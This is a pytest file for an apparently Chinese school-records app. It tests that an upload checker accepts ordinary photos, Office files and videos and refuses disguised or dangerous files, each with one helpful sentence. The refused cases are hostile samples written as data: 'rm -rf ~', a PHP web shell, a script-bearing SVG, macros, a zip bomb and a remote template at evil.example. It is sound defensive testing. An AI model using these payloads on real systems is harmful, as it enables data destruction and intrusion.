"""A file is what it holds: what is taken, and what is refused in one sentence that helps."""

from __future__ import annotations

import base64
import struct
from pathlib import Path

import pytest

from gengdu.documents.limits import Refused
from gengdu.records.evidence import kinds
from gengdu.records.evidence.examining import content
from tests import files

TAKEN = {
    "会议.jpg": (files.photo(), kinds.JPEG),
    "会议.JPEG": (files.photo(), kinds.JPEG),
    "截图.png": (files.photo(form="PNG"), kinds.PNG),
    "网图.webp": (files.photo(form="WEBP"), kinds.WEBP),
    "动图.gif": (files.photo(form="GIF"), kinds.GIF),
    "方案.pdf": (files.pdf(), kinds.PDF),
    "总结.docx": (files.word(), kinds.DOCX),
    "签到.xlsx": (files.excel(), kinds.XLSX),
    "旧签到.xls": (files.old_excel(), kinds.XLS),
    "金山表格.et": (files.old_excel(), kinds.XLS),
    "旧总结.doc": (files.old_word(), kinds.DOC),
    "金山文档.wps": (files.old_word(), kinds.DOC),
    "汇报.ppt": (files.compound({"PowerPoint Document": b""}), kinds.PPT),
    "课堂.mp4": (files.video(), kinds.MP4),
    "课堂.mov": (files.video(b"qt  "), kinds.MOV),
    "记录.txt": ("家访记录：三户。".encode("gb18030"), kinds.TEXT),
    "名单.csv": ("姓名,次数\n丛一,3\n".encode("utf-8-sig"), kinds.TEXT),
    "说明.txt": ("The free text of a note".encode("utf-16"), kinds.TEXT),
}


@pytest.mark.parametrize("name", TAKEN)
def test_what_is_taken_is_told_by_what_it_holds(tmp_path: Path, name: str) -> None:
    body, wanted = TAKEN[name]

    assert content.tell(files.put(tmp_path, "sent", body), name) is wanted


_WORD = files.word()
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
_BOMB = files.repacked(_WORD, {"word/media/image1.png": bytes(20 * 2**20)})
_ENTITIES = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
_TEMPLATE = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate" TargetMode="External" '
    b'Target="http://evil.example/t.dotm"/></Relationships>'
)
_MACRO_SHEET = struct.pack("<HHIBB", 0x85, 10, 0, 0, 1) + b"\x00" * 4 + struct.pack("<HH", 10, 0)
_LOCKED_BOOK = struct.pack("<HH", 0x2F, 4) + b"\x00" * 4 + struct.pack("<HH", 10, 0)
_OLE_PACKAGE = files.compound({"\x01Ole10Native": b"evil.exe"})
_APK = files.zipped(**{"AndroidManifest.xml": b"x", "classes.dex": b"dex\n"})
_ODS = files.zipped(mimetype=b"application/vnd.oasis.opendocument.text")

# What is sent, under which name, and a word of what its sender is told.
REFUSED = {
    "a program called a picture": (b"MZ\x90\x00" + bytes(200), "照片.jpg", "程序或脚本"),
    "a Linux program": (b"\x7fELF" + bytes(200), "工具.pdf", "程序或脚本"),
    "a shortcut": (b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(80), "方案.docx", "程序或脚本"),
    "a shell script": (b"#!/bin/sh\nrm -rf ~\n", "记录.txt", "程序或脚本"),
    "a batch file": (b"@echo off\r\ndel *.*\r\n", "记录.txt", "脚本或程序"),
    "a PHP page": (b"<?php system($_GET['c']); ?>", "记录.txt", "脚本或程序"),
    "a page called a text": (b"<html><script>x()</script>", "记录.txt", "网页"),
    "a page called a document": (b"<html><table><tr><td>1", "成绩.xls", "网页"),
    "a drawing with code": (_SVG, "校徽.png", "SVG"),
    "a zip archive": (files.zipped(**{"a.exe": b"MZ"}), "材料.zip", "压缩包"),
    "a zip called a document": (files.zipped(**{"a.txt": b"x"}), "方案.docx", "压缩包"),
    "a RAR archive": (b"Rar!\x1a\x07\x01\x00" + bytes(80), "材料.rar", "压缩包"),
    "an Android package": (_APK, "通知.docx", "安装包"),
    "an installer": (files.compound({"_5Str": b""}), "方案.doc", "复合文件"),
    "macros in a document": (
        files.repacked(_WORD, {"word/vbaProject.bin": b"x"}), "方案.docx", "宏",
    ),
    "macros told in the types": (
        files.repacked(_WORD, {"[Content_Types].xml": b"<Types>macroEnabled</Types>"}),
        "方案.docx", "宏",
    ),
    "macros in an old document": (files.old_word(Macros=b""), "方案.doc", "宏"),
    "a macro sheet": (files.compound({"Workbook": _MACRO_SHEET}), "表.xls", "宏"),
    "a program packed into a document": (
        files.repacked(_WORD, {"word/embeddings/oleObject1.bin": _OLE_PACKAGE}),
        "方案.docx", "嵌有",
    ),
    "a program among the parts": (
        files.repacked(_WORD, {"word/media/image1.png": b"MZ\x90\x00"}), "方案.docx", "嵌有",
    ),
    "a template fetched from elsewhere": (
        files.repacked(_WORD, {"word/_rels/settings.xml.rels": _TEMPLATE}), "方案.docx", "网上",
    ),
    "entities": (files.repacked(_WORD, {"word/document.xml": _ENTITIES}), "方案.docx", "损坏"),
    "a zip bomb": (_BOMB, "方案.docx", "压缩比"),
    "a locked document": (files.old_word(flags=0x0100), "方案.doc", "密码"),
    "a locked workbook": (files.compound({"Workbook": _LOCKED_BOOK}), "表.xls", "密码"),
    "a sealed new document": (files.compound({"EncryptedPackage": b""}), "方案.docx", "密码"),
    "half a document": (_WORD[: len(_WORD) // 2], "方案.docx", "损坏"),
    "RTF": (b"{\\rtf1 {\\object}}", "方案.doc", "RTF"),
    "HEIC": (files.video(b"heic"), "IMG_1.jpg", "兼容性最佳"),
    "AVIF": (files.video(b"avif"), "图.jpg", "AVIF"),
    "half a video": (files.video()[:-100], "课堂.mp4", "不完整"),
    "a video with a page behind it": (files.video() + b"<html>", "课堂.mp4", "不完整"),
    "MKV": (b"\x1a\x45\xdf\xa3\x01\x42\x82\x88matroska" + bytes(40), "课.webm", "MKV"),
    "a sound": (b"ID3\x03\x00" + bytes(100), "录音.mp3", "音频"),
    "a bitmap": (b"BM" + struct.pack("<I", 200) + bytes(194), "图.bmp", "JPEG 或 PNG"),
    "OpenDocument": (_ODS, "方案.docx", "OpenDocument"),
    "OFD": (files.zipped(**{"OFD.xml": b"<x/>"}), "公文.pdf", "OFD"),
    "a picture called a document": (files.photo(), "方案.pdf", "“.jpg”"),
    "a document called a picture": (files.pdf(), "照片.jpg", "“.pdf”"),
    "a name without an end": (files.pdf(), "方案", "“.pdf”"),
    "a program behind a picture's name": (files.photo(), "照片.jpg.exe", "两者不符"),
    "nothing": (b"", "空.txt", "0 字节"),
    "noise": (base64.b85decode("0" * 500) + bytes(range(256)), "怪.txt", "认不出"),
}  # fmt: skip


@pytest.mark.parametrize("what", REFUSED)
def test_what_is_no_evidence_is_refused_in_one_sentence(tmp_path: Path, what: str) -> None:
    body, name, word = REFUSED[what]

    with pytest.raises(Refused) as refused:
        content.tell(files.put(tmp_path, "sent", body), name)

    told = str(refused.value)
    assert word in told
    assert told.count("。") == 1
    assert told.endswith("。")
    assert "请" in told or "可以用" in told


def test_a_formula_of_mathtype_in_a_document_is_no_program(tmp_path: Path) -> None:
    formula = files.compound({"Equation Native": b"x", "\x01Ole": b""})
    body = files.repacked(files.word(), {"word/embeddings/oleObject1.bin": formula})

    assert content.tell(files.put(tmp_path, "sent", body), "教案.docx") is kinds.DOCX
